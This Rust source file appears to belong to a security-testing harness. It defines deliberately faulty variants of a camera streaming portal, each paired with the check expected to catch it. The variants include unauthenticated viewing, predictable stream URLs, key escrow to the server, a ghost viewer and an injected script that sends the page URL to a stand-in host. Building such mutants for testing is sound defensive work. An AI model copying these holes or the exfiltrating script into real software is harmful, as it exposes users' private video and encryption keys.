//! Mutants whose first row is of area WHIP or WHEP, or that need a relay.

use base64::{Engine as _, prelude::BASE64_URL_SAFE_NO_PAD};
use hyper::Method;
use serde_json::{Value, json};

use super::Mutant;
use crate::{
    camera::Device,
    fault::{Fault, PortalFault, plain_leg::FaultyPlain, rtmp::FAULTY_RTMP},
    hex::Hex,
    relay::RelaySettings,
    seal::{
        envelope::{Epoch, deliver},
        keys::{HpkeKey, SFrameBaseKey},
    },
    world::World,
};

const PATH: &str = "portal.webrtc";

pub(super) const ROWS: &[Mutant] = &[
    Mutant {
        id: "portal.whep-open",
        path: PATH,
        expected: &["WHEP-01"],
        story: "an offer to watch is answered without a token",
        source: "of our own making (catalogue, WHEP-01)",
        fault: portal(PortalFault {
            viewer: Some(whoever),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.rtmp-plain",
        path: PATH,
        expected: &["RTMP-01"],
        story: "the portal names an rtmp:// address of a camera, where anybody is given its pictures in clear; the app is told nothing of it",
        source: "bropat/eufy-security-client#268; The Verge, November 2022",
        fault: portal(PortalFault {
            beside: Some(FAULTY_RTMP),
            in_clear: true,
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.on-request",
        path: PATH,
        expected: &["XC-07"],
        story: "media are sealed, until somebody who is logged in asks for them without",
        source: "The Verge, January 2023",
        fault: portal(PortalFault {
            legacy: Some(|query| query.contains("e2ee=off")),
            in_clear: true,
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.predictable-url",
        path: PATH,
        expected: &["WHEP-01"],
        story: "pictures are at an address that follows from the serial number and the time; the token in it is not checked",
        source: "The Verge, November 2022",
        fault: portal(PortalFault {
            pictures: Some(by_serial_and_time),
            in_clear: true,
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.whip-http",
        path: PATH,
        expected: &["WHIP-01"],
        story: "the portal answers without TLS on port 80 as well",
        source: "of our own making (catalogue, WHIP-01)",
        fault: portal(PortalFault {
            plain_port: Some(80),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.whip-delete-noauth",
        path: PATH,
        expected: &["WHIP-02"],
        story: "a publication can be ended without the token of the camera",
        source: "of our own making (catalogue, WHIP-02)",
        fault: portal(PortalFault {
            publisher: Some(|method, rest| *method == Method::DELETE && rest.len() == 1),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.whip-seq-id",
        path: PATH,
        expected: &["WHIP-03"],
        story: "ids of sessions count up",
        source: "of our own making (catalogue, WHIP-03)",
        fault: portal(PortalFault {
            session_id: Some(|number| format!("{number:032x}")),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.page-exfiltrates",
        path: PATH,
        expected: &["WRTC-10"],
        story: "the page sends the keys that it opened to somebody else",
        source: "of our own making (catalogue, WRTC-10)",
        fault: portal(PortalFault {
            page: Some(exfiltrates),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.no-rekey-on-revoke",
        path: PATH,
        expected: &["SFR-13"],
        story: "a viewer whom the owner revoked is wrapped for all the same",
        source: "of our own making (catalogue, SFR-13)",
        fault: portal(PortalFault {
            wraps_for: Some(|is_enrolled, _| is_enrolled),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.e2e-server-key",
        path: PATH,
        expected: &["SFR-11"],
        story: "the vendor's server is told the base keys",
        source: "of our own making (catalogue, SFR-11)",
        fault: portal(PortalFault {
            delivers: Some(tells_the_server),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "portal.household-key",
        path: PATH,
        expected: &["SFR-06"],
        story: "video and sound are sealed with one base key",
        source: "of our own making (catalogue, SFR-06)",
        fault: portal(PortalFault {
            epochs: Some(share_a_key),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "relay.ghost-viewer",
        path: PATH,
        expected: &["SFR-15"],
        story: "the server adds a viewer of its own, and the camera asks for no signature",
        source: "of our own making (catalogue, SFR-15)",
        fault: portal(PortalFault {
            roster: Some(add_ghost),
            wraps_for: Some(|_, is_revoked| !is_revoked),
            ..PortalFault::NONE
        }),
    },
    Mutant {
        id: "relay.plain-leg",
        path: PATH,
        expected: &["SRTP-01"],
        story: "the server sends RTP to viewers in clear after a handshake",
        source: "of our own making (catalogue, WRTC-02)",
        fault: portal(PortalFault {
            viewer_leg: Some(|_, _| Ok(Box::new(FaultyPlain))),
            ..PortalFault::NONE
        }),
    },
];

const fn portal(portal: PortalFault) -> Fault {
    Fault {
        portal,
        ..Fault::NONE
    }
}

/// The first who may watch the camera, for an offer alone.
fn whoever(settings: &RelaySettings, method: &Method, parts: &[&str]) -> Option<String> {
    let [serial] = parts else {
        return None;
    };
    let mut accounts = settings.accounts.iter();
    let theirs = accounts.find(|account| account.cameras.iter().any(|camera| camera == serial));
    theirs
        .filter(|_| *method == Method::POST)
        .map(|account| account.credentials.user.clone())
}

/// `/live/SERIAL_TIME`: the serial number in base64, and any time in seconds.
fn by_serial_and_time(settings: &RelaySettings, path: &str) -> Option<String> {
    let name = path.strip_prefix("/live/")?;
    let (serial, time) = name.split_once('_')?;
    let cameras = settings.cameras.iter().map(|camera| &camera.serial);
    let mut asked = cameras.filter(|camera| BASE64_URL_SAFE_NO_PAD.encode(camera) == serial);
    asked
        .next()
        .filter(|_| time.parse::<u64>().is_ok())
        .cloned()
}

fn exfiltrates(path: &str, octets: &[u8]) -> Vec<u8> {
    const SEND: &[u8] = b"\nnew Image().src = \"https://192.0.2.66/?\" + location.href;\n";
    match path {
        "/portal.js" => [octets, SEND].concat(),
        _ => octets.to_vec(),
    }
}

fn tells_the_server(epochs: &[Epoch], body: &mut Value) {
    let keys = epochs.iter().map(|epoch| {
        let key = epoch.base.opening();
        Hex(key.expose()).to_string()
    });
    body["server_keys"] = json!(keys.collect::<Vec<_>>());
}

/// The key of the first sender becomes that of all, under the KID of each.
fn share_a_key(device: &Device, epochs: &mut [Epoch]) {
    let Some((first, others)) = epochs.split_first_mut() else {
        return;
    };
    let shared = first.base.opening();
    for (epoch, sender) in others.iter_mut().zip(["audio"]) {
        let id = epoch.base.opening().id();
        epoch.base = SFrameBaseKey::new(shared.suite(), id, shared.expose()).expect("it was one");
        let name = format!("{}/{sender}", device.settings.serial);
        let key = epoch.base.opening();
        for (viewer, delivery) in &mut epoch.deliveries {
            let entropy = &*device.world.entropy;
            *delivery = deliver(&key, &name, viewer, entropy).expect("it was a viewer");
        }
    }
}

fn add_ghost(world: &World, viewers: &mut Vec<Value>) {
    let ghost = HpkeKey::new(&[0x67; 32]).expect("32 octets");
    world.witness.secret(&ghost.escrow());
    if !viewers.is_empty() {
        viewers.push(json!({
            "session": "0".repeat(32),
            "viewer_key": ghost.public().to_string(),
            "signature": "00".repeat(64),
        }));
    }
}
